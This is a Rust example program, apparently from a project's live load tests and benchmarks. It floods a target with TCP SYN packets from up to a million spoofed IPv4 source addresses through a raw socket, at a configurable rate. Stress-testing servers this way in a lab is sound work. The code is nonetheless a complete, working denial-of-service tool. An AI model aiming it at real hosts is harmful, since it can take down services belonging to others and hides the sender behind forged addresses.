//! A SYN flood from spoofed IPv4 sources, for the live load tests and benches.
//!
//! Sends `--count` TCP SYNs to `--dst`:`--dport`, the i-th from source address
//! `--base` + i (so `--count 1000000` is a million distinct sources) and a source port
//! derived from i, through a raw socket (`IP_HDRINCL`), paced at `--pps` packets per
//! second. Prints `sent N in S s` when done. Needs root (`CAP_NET_RAW`); run it in a
//! client network namespace whose route to `--dst` leaves by the lab's link.
//!
//! `cargo run --release --example syn_flood -- --dst 192.0.2.2 --dport 80 \
//!  --base 10.64.0.0 --count 1000000 --pps 200000`

use std::net::Ipv4Addr;
use std::time::{Duration, Instant};

struct Args {
    dst: Ipv4Addr,
    dport: u16,
    base: Ipv4Addr,
    count: u32,
    pps: u32,
}

fn parse_args() -> Result<Args, String> {
    let mut a = Args {
        dst: Ipv4Addr::new(192, 0, 2, 2),
        dport: 80,
        base: Ipv4Addr::new(10, 64, 0, 0),
        count: 1_000_000,
        pps: 200_000,
    };
    let mut it = std::env::args().skip(1);
    while let Some(flag) = it.next() {
        let value = it.next().ok_or_else(|| format!("{flag} needs a value"))?;
        let bad = |e: &dyn std::fmt::Display| format!("{flag} {value}: {e}");
        match flag.as_str() {
            "--dst" => a.dst = value.parse().map_err(|e| bad(&e))?,
            "--dport" => a.dport = value.parse().map_err(|e| bad(&e))?,
            "--base" => a.base = value.parse().map_err(|e| bad(&e))?,
            "--count" => a.count = value.parse().map_err(|e| bad(&e))?,
            "--pps" => a.pps = value.parse().map_err(|e| bad(&e))?,
            _ => return Err(format!("unknown flag {flag}")),
        }
    }
    if a.pps == 0 {
        return Err("--pps must be above 0".into());
    }
    Ok(a)
}

/// The one's-complement sum of `bytes` as 16-bit words, folded.
fn sum16(mut acc: u32, bytes: &[u8]) -> u32 {
    for pair in bytes.chunks(2) {
        let word = u16::from_be_bytes([pair[0], *pair.get(1).unwrap_or(&0)]);
        acc += u32::from(word);
    }
    while acc > 0xffff {
        acc = (acc & 0xffff) + (acc >> 16);
    }
    acc
}

/// An IPv4 SYN of 40 bytes (no options) from `src:sport` with sequence `seq`.
fn syn(src: Ipv4Addr, sport: u16, dst: Ipv4Addr, dport: u16, seq: u32) -> [u8; 40] {
    let mut p = [0u8; 40];
    p[0] = 0x45;
    p[2..4].copy_from_slice(&40u16.to_be_bytes());
    p[6] = 0x40; // DF
    p[8] = 64;
    p[9] = 6;
    p[12..16].copy_from_slice(&src.octets());
    p[16..20].copy_from_slice(&dst.octets());
    let ip_sum = !(sum16(0, &p[..20]) as u16);
    p[10..12].copy_from_slice(&ip_sum.to_be_bytes());
    let t = &mut p[20..];
    t[0..2].copy_from_slice(&sport.to_be_bytes());
    t[2..4].copy_from_slice(&dport.to_be_bytes());
    t[4..8].copy_from_slice(&seq.to_be_bytes());
    t[12] = 5 << 4;
    t[13] = 0x02; // SYN
    t[14..16].copy_from_slice(&64240u16.to_be_bytes());
    let mut pseudo = [0u8; 12];
    pseudo[0..4].copy_from_slice(&src.octets());
    pseudo[4..8].copy_from_slice(&dst.octets());
    pseudo[9] = 6;
    pseudo[10..12].copy_from_slice(&20u16.to_be_bytes());
    let tcp_sum = !(sum16(sum16(0, &pseudo), &p[20..]) as u16);
    p[36..38].copy_from_slice(&tcp_sum.to_be_bytes());
    p
}

fn main() {
    let args = match parse_args() {
        Ok(a) => a,
        Err(e) => {
            eprintln!("syn_flood: {e}");
            std::process::exit(2);
        }
    };
    // SAFETY: plain socket(2) call; the descriptor is checked below.
    let fd = unsafe { libc::socket(libc::AF_INET, libc::SOCK_RAW, libc::IPPROTO_RAW) };
    if fd < 0 {
        eprintln!(
            "syn_flood: raw socket: {} (needs root)",
            std::io::Error::last_os_error()
        );
        std::process::exit(1);
    }
    let mut to: libc::sockaddr_in = unsafe { std::mem::zeroed() };
    to.sin_family = libc::AF_INET as libc::sa_family_t;
    to.sin_addr.s_addr = u32::from(args.dst).to_be();
    let base = u32::from(args.base);
    let start = Instant::now();
    let mut sent = 0u32;
    let mut errors = 0u64;
    for i in 0..args.count {
        let src = Ipv4Addr::from(base.wrapping_add(i));
        let sport = 1024 + (i % 60_000) as u16;
        let p = syn(
            src,
            sport,
            args.dst,
            args.dport,
            i.wrapping_mul(2_654_435_761),
        );
        // SAFETY: `p` and `to` outlive the call; lengths are theirs.
        let n = unsafe {
            libc::sendto(
                fd,
                p.as_ptr().cast(),
                p.len(),
                0,
                (&to as *const libc::sockaddr_in).cast(),
                std::mem::size_of::<libc::sockaddr_in>() as libc::socklen_t,
            )
        };
        if n == p.len() as isize {
            sent += 1;
        } else {
            errors += 1;
        }
        if i % 1000 == 999 {
            // Pace: stay at or below --pps.
            let due = Duration::from_secs_f64(f64::from(i + 1) / f64::from(args.pps));
            if let Some(wait) = due.checked_sub(start.elapsed()) {
                std::thread::sleep(wait);
            }
        }
    }
    println!(
        "sent {sent} in {:.2} s ({errors} send errors)",
        start.elapsed().as_secs_f64()
    );
}
